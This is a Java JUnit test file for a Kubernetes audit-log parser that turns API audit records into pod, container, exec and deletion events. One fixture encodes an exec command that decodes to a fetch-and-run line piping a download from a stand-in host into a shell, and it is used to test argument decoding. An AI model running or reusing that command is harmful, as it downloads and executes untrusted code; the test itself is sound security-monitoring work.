package io.tallyman.source.kubernetes;

import static io.tallyman.source.kubernetes.AuditRecords.JANE;
import static io.tallyman.source.kubernetes.AuditRecords.KUBELET;
import static io.tallyman.source.kubernetes.AuditRecords.POD_UID;
import static io.tallyman.source.kubernetes.AuditRecords.creation;
import static io.tallyman.source.kubernetes.AuditRecords.event;
import static io.tallyman.source.kubernetes.AuditRecords.execution;
import static io.tallyman.source.kubernetes.AuditRecords.pod;
import static io.tallyman.source.kubernetes.AuditRecords.reference;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.tallyman.event.ContainerKind;
import io.tallyman.event.ContainerRequested;
import io.tallyman.event.PodCreated;
import io.tallyman.event.PodDeleted;
import io.tallyman.event.PodReference;
import io.tallyman.event.PodScheduled;
import io.tallyman.event.ProcessExecuted;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PodRequestsInAuditTest {

    private static final PodReference GENERATED = new PodReference("shop", "web-x7k2p", POD_UID);

    @Test
    void aCreationNamesThePodByItsGeneratedNameAndUid() {
        var created = Parsed.audit(creation()).events(PodCreated.class).get(0);

        assertThat(created.pod()).isEqualTo(GENERATED);
        assertThat(created.owner()).isEqualTo("rs-uid");
        assertThat(created.hostNetwork()).isTrue();
        assertThat(created.specificationKnown()).isTrue();
        assertThat(created.user()).endsWith("replicaset-controller");
        assertThat(created.time().instant()).isEqualTo(Instant.parse(AuditRecords.RECEIVED));
    }

    @Test
    void aCreationAsksForEveryContainerThatWillRunWithThePolicyAskedFor() {
        assertThat(Parsed.audit(creation()).events(ContainerRequested.class))
                .extracting(
                        e -> e.reported().name(), e -> e.kind(), e -> e.image(), e -> e.pullPolicy(), e -> e.command())
                .containsExactlyInAnyOrder(
                        tuple("setup", ContainerKind.INIT, "busybox:1", "IfNotPresent", List.of("sh", "-c", "true")),
                        tuple("web", ContainerKind.APPLICATION, "nginx", "Never", List.of()),
                        tuple("proxy", ContainerKind.APPLICATION, "mesh.example/proxy:3", "IfNotPresent", List.of()));
    }

    @Test
    void aWriterThatSortsMembersIsReadTheSame() {
        var sorted = "{\"auditID\":\"a-1\",\"level\":\"RequestResponse\",\"requestObject\":%s,\"responseObject\":%s,"
                        .formatted(AuditRecords.requestedPod(), AuditRecords.storedPod())
                + "\"objectRef\":%s,\"requestReceivedTimestamp\":\"%s\",\"responseStatus\":{\"code\":201},"
                        .formatted(reference("pods", "", ""), AuditRecords.RECEIVED)
                + "\"stage\":\"ResponseComplete\",\"user\":{\"username\":\"system:serviceaccount:kube-system:"
                + "replicaset-controller\"},\"verb\":\"create\"}";

        assertThat(Parsed.audit(sorted).events())
                .isEqualTo(Parsed.audit(creation()).events());
    }

    @Test
    void atLevelMetadataTheSpecificationIsUnknown() {
        var created = Parsed.audit(pod("create", "", JANE, "")).only(PodCreated.class);

        assertThat(created.specificationKnown()).isFalse();
        assertThat(created.pod()).isEqualTo(new PodReference("shop", "web-1", ""));
    }

    @Test
    void aBindingTellsTheNode() {
        var request =
                "\"requestObject\":{\"metadata\":{\"name\":\"web-1\",\"uid\":\"u-1\"},\"target\":{\"kind\":\"Node\",\"name\":\"worker-7\"}}";

        var scheduled = Parsed.audit(pod("create", "binding", "system:kube-scheduler", request))
                .only(PodScheduled.class);

        assertThat(scheduled.node()).isEqualTo("worker-7");
        assertThat(scheduled.pod()).isEqualTo(new PodReference("shop", "web-1", "u-1"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"create", "get"})
    void anExecutionIsDecodedFromTheQuery(String verb) {
        var query =
                "command=sh&command=-c&command=curl+http%3A%2F%2Fx.example%2Fm%20%7C%20sh&container=web&container=web&stdin=true";

        var executed = Parsed.audit(execution(verb, query, "ResponseComplete")).only(ProcessExecuted.class);

        assertThat(executed.arguments()).containsExactly("sh", "-c", "curl http://x.example/m | sh");
        assertThat(executed.reported().name()).isEqualTo("web");
        assertThat(executed.reported().pod()).isEqualTo(new PodReference("shop", "web-1", ""));
        assertThat(executed.user()).isEqualTo(JANE);
    }

    @Test
    void anExecutionIsTakenWhenItsStreamsOpenAndNotAgainWhenTheyClose() {
        var opened = execution("create", "command=id", "ResponseStarted");
        var closed = execution("create", "command=id", "ResponseComplete");

        assertThat(Parsed.audit(opened, closed).events(ProcessExecuted.class))
                .singleElement()
                .satisfies(executed -> assertThat(executed.origin().line()).isEqualTo(1));
    }

    @Test
    void aMalformedEscapeInACommandIsKeptAsWritten() {
        var executed = Parsed.audit(execution("get", "command=printf&command=100%", "ResponseComplete"))
                .only(ProcessExecuted.class);

        assertThat(executed.arguments()).containsExactly("printf", "100%");
    }

    @Test
    void anEphemeralContainerIsAskedForByItsPatch() {
        var patch =
                "\"requestObject\":{\"spec\":{\"ephemeralContainers\":[{\"name\":\"debug-1\",\"image\":\"alpine\",\"command\":[\"sh\"]}]}}";

        var requested =
                Parsed.audit(pod("patch", "ephemeralcontainers", JANE, patch)).only(ContainerRequested.class);

        assertThat(requested.kind()).isEqualTo(ContainerKind.EPHEMERAL);
        assertThat(requested.image()).isEqualTo("alpine");
    }

    @Test
    void anUpdateThatNamesAllEphemeralContainersAsksOnlyForTheNewOnes() {
        var list =
                "{\"ephemeralContainers\":[{\"name\":\"old\",\"image\":\"alpine\"},{\"name\":\"new\",\"image\":\"kali\"}]}";
        var objects = "\"requestObject\":{\"spec\":" + list + "},\"responseObject\":{\"spec\":" + list
                + ",\"status\":{\"ephemeralContainerStatuses\":[{\"name\":\"old\",\"imageID\":\"\"}]}}";

        var requested = Parsed.audit(pod("update", "ephemeralcontainers", JANE, objects))
                .only(ContainerRequested.class);

        assertThat(requested.reported().name()).isEqualTo("new");
    }

    @Test
    void aDeletionIsReportedWithTheUidOfItsAnswer() {
        var status = "\"responseObject\":{\"kind\":\"Status\",\"details\":{\"name\":\"web-1\",\"uid\":\"u-9\"}}";

        assertThat(Parsed.audit(pod("delete", "", KUBELET, status))
                        .only(PodDeleted.class)
                        .pod())
                .isEqualTo(new PodReference("shop", "web-1", "u-9"));
    }

    @Test
    void aDeletedCollectionReportsEachOfItsPods() {
        var list = "\"responseObject\":{\"kind\":\"PodList\",\"items\":[{\"metadata\":{\"name\":\"a\",\"uid\":\"1\"}},"
                + "{\"metadata\":{\"name\":\"b\",\"uid\":\"2\"}}]}";
        var record = event("deletecollection", reference("pods", "", ""), "/x", JANE, "ResponseComplete", 200, list);

        assertThat(Parsed.audit(record).events(PodDeleted.class))
                .extracting(PodDeleted::pod)
                .containsExactly(new PodReference("shop", "a", "1"), new PodReference("shop", "b", "2"));
    }

    @Test
    void whatWasRefusedOrOnlyTriedOrOnlyReadTellsNothing() {
        var refused = event("create", reference("pods", "", "web-1"), "/x", JANE, "ResponseComplete", 403, "");
        var received = event("create", reference("pods", "", "web-1"), "/x", JANE, "RequestReceived", 0, "");
        var dry = event("create", reference("pods", "", "web-1"), "/x?dryRun=All", JANE, "ResponseComplete", 201, "");
        var deployment = event("create", reference("deployments", "", "web"), "/x", JANE, "ResponseComplete", 201, "");
        var attached = pod("create", "attach", JANE, "");

        var parsed = Parsed.audit(
                refused, received, dry, deployment, attached, pod("get", "", JANE, ""), pod("patch", "", JANE, ""));

        assertThat(parsed.events()).isEmpty();
        assertThat(parsed.rejections()).isEmpty();
        assertThat(parsed.readings()).hasSize(7);
    }
}
